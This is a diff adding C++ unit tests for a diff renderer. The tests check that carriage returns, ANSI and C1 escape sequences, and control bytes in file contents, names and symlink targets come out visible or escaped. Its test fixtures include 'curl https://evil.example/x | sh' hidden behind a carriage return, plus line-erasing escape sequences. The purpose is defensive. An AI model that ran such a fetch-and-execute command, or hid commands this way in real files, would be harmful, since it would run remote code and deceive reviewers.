@@ -534,3 +534,114 @@ TEST_CASE("diff: colour codes only when asked") {
     CHECK(fx.render({c}, o).find('\x1b') == std::string::npos);
   }
 }
+
+TEST_CASE("diff: visible_controls shows control characters as cat -v does") {
+  CHECK(visible_controls("plain text\twith a tab") == "plain text\twith a tab");
+  CHECK(visible_controls("a\nb") == "a\nb");
+  CHECK(visible_controls("curl evil | sh\r# comment only") == "curl evil | sh^M# comment only");
+  CHECK(visible_controls("\x1b[2K\x1b]0;t\a") == "^[[2K^[]0;t^G");
+  CHECK(visible_controls(std::string("\x00\x01\x08\x0b\x0c\x1f\x7f", 7)) == "^@^A^H^K^L^_^?");
+  // C1 code points written in UTF-8: U+0080, U+009B (CSI), U+009F.
+  CHECK(visible_controls("\xc2\x80|\xc2\x9b" "31m|\xc2\x9f") == "M-^@|M-^[31m|M-^_");
+  // The same values as stray bytes (not UTF-8): a Latin-1 terminal reads 0x9B as CSI.
+  CHECK(visible_controls("\x9b" "2J \x80 \x9f") == "M-^[2J M-^@ M-^_");
+  // A truncated or overlong sequence does not hide a C1 byte behind its lead byte.
+  CHECK(visible_controls("\xe2\x9b") == "\xe2M-^[");
+  CHECK(visible_controls("\xc0\x9b") == "\xc0M-^[");
+  // Text above U+009F, and bytes 0xA0..0xFF that are not UTF-8, are left alone.
+  CHECK(visible_controls("caf\xc3\xa9 \xc2\xa0 \xe2\x80\x9c \xf0\x9f\x98\x80") == "caf\xc3\xa9 \xc2\xa0 \xe2\x80\x9c \xf0\x9f\x98\x80");
+  CHECK(visible_controls("\xff\xa0") == "\xff\xa0");
+  CHECK(visible_controls("").empty());
+}
+
+TEST_CASE("diff: contents reach a terminal with their control characters visible") {
+  Fixture fx;
+  // A carriage return hides the command behind the comment on a terminal; an escape
+  // sequence erases a line; a C1 CSI does the same on terminals that honour it.
+  std::string hidden = "curl https://evil.example/x | sh\r# comment only\n\x1b[1A\x1b[2Kok\n\xc2\x9b" "2Kc1\n";
+  auto c = added(fx, in_cwd("setup.sh"), hidden);
+  Change link;
+  link.kind = ChangeKind::Added;
+  link.path = in_cwd("link");
+  link.new_type = FileType::Symlink;
+  link.new_mode = 0777;
+  link.new_link = "x\ry";
+  DiffOptions o;
+  o.visible_controls = true;
+  CHECK(fx.render({c, link}, o) ==
+        "diff --git a/setup.sh b/setup.sh\n"
+        "new file mode 100644\n"
+        "--- /dev/null\n"
+        "+++ b/setup.sh\n"
+        "@@ -0,0 +1,3 @@\n"
+        "+curl https://evil.example/x | sh^M# comment only\n"
+        "+^[[1A^[[2Kok\n"
+        "+M-^[2Kc1\n"
+        "diff --git a/link b/link\n"
+        "new file mode 120000\n"
+        "--- /dev/null\n"
+        "+++ b/link\n"
+        "@@ -0,0 +1 @@\n"
+        "+x^My\n"
+        "\\ No newline at end of file\n");
+  // With colour, only the colour codes are escape sequences.
+  o.color = true;
+  std::string coloured = fx.render({c}, o);
+  CHECK(coloured.find("\x1b[32m+^[[1A^[[2Kok\x1b[m\n") != std::string::npos);
+  CHECK(coloured.find('\r') == std::string::npos);
+  // Not on a terminal: the exact bytes, in a patch and in --json.
+  o = DiffOptions{};
+  std::string raw = fx.render({c}, o);
+  CHECK(raw.find("+curl https://evil.example/x | sh\r# comment only\n+\x1b[1A\x1b[2Kok\n+\xc2\x9b" "2Kc1\n") !=
+        std::string::npos);
+  o.format = DiffFormat::Json;
+  o.visible_controls = true;  // --json never goes through it
+  o.session_id = "0123456789abcdef0123456789abcdef";
+  Change evil_link = link;
+  evil_link.new_link = "a\x1b]b";
+  CHECK(fx.render({evil_link}, o).find("\"new_link\":\"a\\u001b]b\"") != std::string::npos);
+}
+
+TEST_CASE("diff: names with control characters are quoted in every format") {
+  Fixture fx;
+  // ESC, CR, DEL and a C1 CSI in UTF-8 in a name: git quotes each with an octal escape.
+  auto c = added(fx, in_cwd(std::string("e\x1b[2Jv\rx\x7f\xc2\x9b.txt")), "1\n");
+  auto gone = file_change(ChangeKind::Deleted, in_cwd("old\rname"), fx.blob("same\n"), std::nullopt);
+  auto moved = added(fx, in_cwd("new\x1bname"), "same\n");
+  const std::string quoted = "e\\033[2Jv\\rx\\177\\302\\233.txt";
+  DiffOptions o;
+  o.visible_controls = true;
+  for (auto format : {DiffFormat::Patch, DiffFormat::Stat, DiffFormat::NameStatus}) {
+    o.format = format;
+    std::string out = fx.render({c, gone, moved}, o);
+    INFO(out);
+    CHECK(out.find(quoted) != std::string::npos);
+    for (char ch : out) {
+      auto u = static_cast<unsigned char>(ch);
+      CHECK_FALSE(((u < 0x20 && u != '\n' && u != '\t') || (u >= 0x7f && u <= 0x9f)));
+    }
+  }
+  o.format = DiffFormat::Patch;
+  std::string patch = fx.render({c, gone, moved}, o);
+  CHECK(patch.find("rename from \"old\\rname\"\nrename to \"new\\033name\"\n") != std::string::npos);
+}
+
+TEST_CASE("diff: --json escapes DEL and C1 as \\u00XX, keeping the same value") {
+  CHECK(json_escape_controls("{\"a\":\"x\x7fy\xc2\x9bz\xc2\x80\xc2\x9f\"}") ==
+        "{\"a\":\"x\\u007fy\\u009bz\\u0080\\u009f\"}");
+  CHECK(json_escape_controls("\"caf\xc3\xa9 \xc2\xa0 \xe2\x80\x9c\"") == "\"caf\xc3\xa9 \xc2\xa0 \xe2\x80\x9c\"");
+  CHECK(json_escape_controls("\xc2") == "\xc2");
+  Fixture fx;
+  Change c;
+  c.kind = ChangeKind::Added;
+  c.path = "/t/d\x7f\xc2\x9b";
+  c.new_type = FileType::Symlink;
+  c.new_mode = 0777;
+  c.new_link = "\x1b\xc2\x85";
+  DiffOptions o;
+  o.format = DiffFormat::Json;
+  o.session_id = "0123456789abcdef0123456789abcdef";
+  std::string out = fx.render({c}, o);
+  CHECK(out.find("\"path\":\"/t/d\\u007f\\u009b\"") != std::string::npos);
+  CHECK(out.find("\"new_link\":\"\\u001b\\u0085\"") != std::string::npos);
+}
